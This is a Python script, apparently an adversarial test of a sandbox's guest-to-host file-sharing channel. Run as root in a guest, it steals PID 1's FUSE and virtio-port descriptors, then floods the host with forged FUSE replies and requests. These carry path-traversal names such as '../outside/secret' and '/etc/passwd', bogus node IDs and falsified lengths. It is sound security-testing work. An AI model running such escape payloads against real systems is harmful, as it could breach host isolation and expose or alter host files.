#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Root in a guest takes the descriptors of PID 1 (/dev/fuse, the channel) and speaks with them: answers nobody asked for, requests no kernel would make.

Runs inside, as the last thing a sandbox does: what it writes into the channel may well end it. Prints JSON: what was taken, how much was sent.
"""
import ctypes
import errno
import fcntl
import json
import os
import select
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
LOOKUP, FORGET, SETATTR, SYMLINK, MKNOD, MKDIR, UNLINK, RMDIR, RENAME, LINK, OPEN, READ, WRITE, RELEASE, SETXATTR, CREATE, COPY, RENAME2 = \
    1, 2, 4, 6, 8, 9, 10, 11, 12, 13, 14, 15, 16, 18, 21, 35, 47, 45
DATA = 5  # core/proto/mux.h


def taken():
    """Copies of PID 1's descriptors: those of /dev/fuse, and the channel's."""
    pid = libc.syscall(434, 1, 0)
    fuse, channel = [], []
    for n in os.listdir("/proc/1/fd"):
        try:
            what = os.readlink(f"/proc/1/fd/{n}")
        except FileNotFoundError:  # PID 1 goes on with its work meanwhile
            continue
        if what == "/dev/fuse" or what.startswith("/dev/vport"):
            fd = libc.syscall(438, pid, int(n), 0)
            if fd < 0:
                raise OSError(ctypes.get_errno(), "pidfd_getfd")
            (fuse if what == "/dev/fuse" else channel).append(fd)
    return fuse, channel


def answers(fd):
    """Answers to what was not asked, and what is no answer: the errors they got."""
    got = []
    for m in (b"x" * 15, struct.pack("<IiQ", 16, 0, 0x7777), struct.pack("<IiQ", 17, 0, 0x7777) + b"x", struct.pack("<IiQ", 16, -5000, 0x7778), os.urandom(4000),
              struct.pack("<IiQ", 0xffffffff, 0, 1), struct.pack("<IiQ", 16, 99, 0)):
        try:
            os.write(fd, m)
            got.append("ok")
        except OSError as e:
            got.append(errno.errorcode[e.errno])
    return got


def request(opcode, node, body, unique, size=None):
    n = 40 + len(body)
    return struct.pack("<IIQQIIIHH", n if size is None else size, opcode, unique, node, 0, 0, 1, 0, 0) + body


def requests():
    out, bad = [], [b"..", b"../outside/secret", b"../outside/dir", b".", b"", b"/etc/passwd", b"a/b", b"file/../../outside/secret", b"x" * 300, b"\xff" * 255]
    u64, u32 = struct.Struct("<Q"), struct.Struct("<I")
    for name in bad:
        z = name + b"\0"
        out += [(LOOKUP, 1, z), (UNLINK, 1, z), (RMDIR, 1, z), (MKDIR, 1, struct.pack("<II", 0o755, 0) + z), (MKNOD, 1, struct.pack("<IIII", 0o60666, 0x800, 0, 0) + z),
                (CREATE, 1, struct.pack("<IIII", os.O_RDWR | os.O_CREAT, 0o666, 0, 0) + z), (SYMLINK, 1, z + b"../outside/secret\0"), (RENAME, 1, u64.pack(1) + b"file\0" + z),
                (RENAME, 1, u64.pack(1) + z + b"stolen\0"), (RENAME2, 1, struct.pack("<QII", 1, 2, 0) + z + b"file\0"), (LINK, 1, u64.pack(1) + z), (LOOKUP, 1, name)]
    for node in (0, 2, 3, 99, 2**32, 2**63, 2**64 - 1):
        out += [(LOOKUP, node, b"secret\0"), (OPEN, node, struct.pack("<II", os.O_RDWR, 0)), (SETATTR, node, struct.pack("<IIQQ", 1, 0, 0, 0) + b"\0" * 64),
                (WRITE, node, struct.pack("<QQIIQII", node, 0, 4, 0, 0, 0, 0) + b"evil"), (READ, node, struct.pack("<QQIIQII", node, 0, 4096, 0, 0, 0, 0)),
                (COPY, node, struct.pack("<QQQQQQQ", node, 0, node, node, 0, 4096, 0)), (RELEASE, node, struct.pack("<QIIQ", node, 0, 0, 0)), (FORGET, node, u64.pack(2**64 - 1)),
                (SETXATTR, node, struct.pack("<II", 4, 0) + b"user.a\0evil")]
    made = [request(op, node, body, 2 * i + 1_000_000) for i, (op, node, body) in enumerate(out)]
    # And what is no request: lengths that lie, numbers nobody knows.
    made += [request(99, 1, b"", 5), request(LOOKUP, 1, b"file\0", 7, size=41), request(LOOKUP, 1, b"file\0", 9, size=39), request(LOOKUP, 1, b"file\0", 11, size=0xffffffff), u32.pack(0) * 10]
    return made


def into(channel):
    """Every request as data of every stream the host may have opened for a share: the share's own is among them."""
    fcntl.fcntl(channel, fcntl.F_SETFL, fcntl.fcntl(channel, fcntl.F_GETFL) | os.O_NONBLOCK)
    sent = 0
    for r in requests():
        for stream in range(1, 60, 2):
            select.select([], [channel], [], 5)
            try:
                os.write(channel, struct.pack("<IHBB", stream, len(r), DATA, 0) + r)
                sent += 1
            except OSError:
                return sent
    return sent


if __name__ == "__main__":
    fuse, channel = taken()
    print(json.dumps({"fuse": len(fuse), "channel": len(channel), "answers": [answers(fd) for fd in fuse]}), flush=True)
    sys.stdin.readline()
    into(channel[0])
